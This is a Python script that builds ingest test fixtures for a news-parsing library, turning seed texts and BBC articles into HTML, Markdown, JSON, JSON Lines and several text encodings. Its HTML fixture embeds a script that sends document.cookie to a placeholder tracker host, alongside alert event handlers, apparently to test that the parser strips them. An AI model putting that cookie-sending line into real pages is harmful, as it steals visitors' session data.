#!/usr/bin/env python3
"""Builds the ingest fixtures in crates/newsprism-core/tests/fixtures from real text: the seeds
and a few BBC articles (../shared/corpora/bbc). Run from the repository root; the output is
committed, so tests never need the BBC corpus. Every fixture holds the source text unchanged,
so tests/formats.rs can compare what each format reader finds with the plain-text original."""
import html, json, os, pathlib, shutil

ROOT = pathlib.Path(__file__).resolve().parent.parent
OUT = ROOT / "crates/newsprism-core/tests/fixtures"
BBC = ROOT.parent / "shared/corpora/bbc"
SEEDS = sorted((ROOT / "seeds").glob("*.txt"))
OUT.mkdir(parents=True, exist_ok=True)

def seed(i):
    return SEEDS[i].read_text(encoding="utf-8")

def seed_body(i):
    """A seed without its ` date YYYY-MM` header, split into paragraphs."""
    text = seed(i)
    date = None
    if text.startswith(" date "):
        date, text = text[6:].split(" ", 1)
    return date, [p.strip() for p in text.split("\n\n") if p.strip()]

def bbc(path):
    raw = (BBC / path).read_bytes()
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        text = raw.decode("latin-1")
    lines = text.split("\n")
    title = lines[0].strip()
    paras = [p.strip() for p in "\n".join(lines[1:]).split("\n\n") if p.strip()]
    return title, paras

# 1. HTML: seed 001 inside a realistic page with furniture, scripts and event handlers.
date, paras = seed_body(1)
# The seed's photo caption is a figure on the page, as news sites mark it up.
CAPTION = "Poetin en Loekasjenko aan een kleine tafel in Minsk."
body = "\n".join(
    f'<figure><img src="tafel.jpg" alt=""><figcaption>{html.escape(p)}</figcaption></figure>'
    if p == CAPTION else f"<p>{html.escape(p)}</p>"
    for p in paras
)
(OUT / "seed001.html").write_text(f"""<!DOCTYPE html>
<html lang="nl">
<head>
<meta charset="utf-8">
<title>Bliksembezoek Poetin | Voorbeeldkrant</title>
<meta property="og:title" content="Het bliksembezoek van Poetin aan Belarus">
<meta property="og:site_name" content="Voorbeeldkrant">
<meta property="article:published_time" content="2022-12-20T09:30:00+01:00">
<script>window.stolen = document.cookie; fetch("https://tracker.invalid/?" + document.cookie);</script>
<style>body {{ font-family: serif }}</style>
</head>
<body onload="alert('onload')">
<nav><a href="/">Voorpagina</a> <a href="/buitenland">Buitenland</a></nav>
<header><div class="logo">Voorbeeldkrant</div></header>
<main>
<article>
<h1>Het bliksembezoek van Poetin aan Belarus</h1>
<time datetime="2022-12-20">20 december 2022</time>
<figure><img src="minsk.jpg" onerror="alert('img')" alt="Poetin in Minsk"><figcaption>Poetin en Loekasjenko in Minsk.</figcaption></figure>
{body}
<aside><h3>Lees ook</h3><p>Een ander artikel over iets anders.</p></aside>
<script>document.write('<p>geinjecteerd</p>')</script>
</article>
</main>
<footer><p>© Voorbeeldkrant. Alle rechten voorbehouden.</p></footer>
</body>
</html>
""", encoding="utf-8")

# 2. Markdown: a BBC business article with front matter, links and emphasis.
title, paras = bbc("business/001.txt")
md = ["---", "source: BBC News", "date: 2005-01-10", "lang: en", "---", f"# {title}", ""]
for i, p in enumerate(paras):
    md += [p if i else p.replace("TimeWarner", "[TimeWarner](https://www.timewarner.com)", 1), ""]
(OUT / "bbc-business-001.md").write_text("\n".join(md), encoding="utf-8")

# 3. JSON: three BBC tech articles as an array, with a broken record among them.
records = []
for name in ["tech/001.txt", "tech/002.txt", "tech/003.txt"]:
    t, ps = bbc(name)
    records.append({"title": t, "text": "\n\n".join(ps), "source": "BBC News", "url": f"https://news.bbc.co.uk/{name}"})
records.insert(2, {"title": "A record without text"})
(OUT / "bbc-tech.json").write_text(json.dumps(records, ensure_ascii=False, indent=1), encoding="utf-8")

# 4. JSON Lines: the five seeds, dated where the seed is.
with open(OUT / "seeds.jsonl", "w", encoding="utf-8") as f:
    for i in range(len(SEEDS)):
        d, ps = seed_body(i)
        rec = {"text": "\n\n".join(ps), "lang": "nl"}
        if d:
            rec["date"] = d
        f.write(json.dumps(rec, ensure_ascii=False) + "\n")

# 5. Encodings: seed 003 (has ë and ï) as UTF-16 LE/BE with BOM and UTF-8 with BOM;
#    the BBC's one Latin-1 file as it is.
s3 = seed(3)
(OUT / "seed003-utf16le.txt").write_bytes(b"\xff\xfe" + s3.encode("utf-16-le"))
(OUT / "seed003-utf16be.txt").write_bytes(b"\xfe\xff" + s3.encode("utf-16-be"))
(OUT / "seed003-utf8bom.txt").write_bytes(b"\xef\xbb\xbf" + s3.encode("utf-8"))
(OUT / "seed003-crlf-cp1252.txt").write_bytes(s3.replace("\n", "\r\n").encode("cp1252"))
shutil.copyfile(BBC / "sport/199.txt", OUT / "bbc-sport-199-latin1.txt")

# 6. Sniffed: a saved page with no extension, and JSON Lines called .dat.
(OUT / "saved-page").write_bytes((OUT / "seed001.html").read_bytes())
(OUT / "export.dat").write_bytes((OUT / "seeds.jsonl").read_bytes())
print("fixtures written to", OUT)
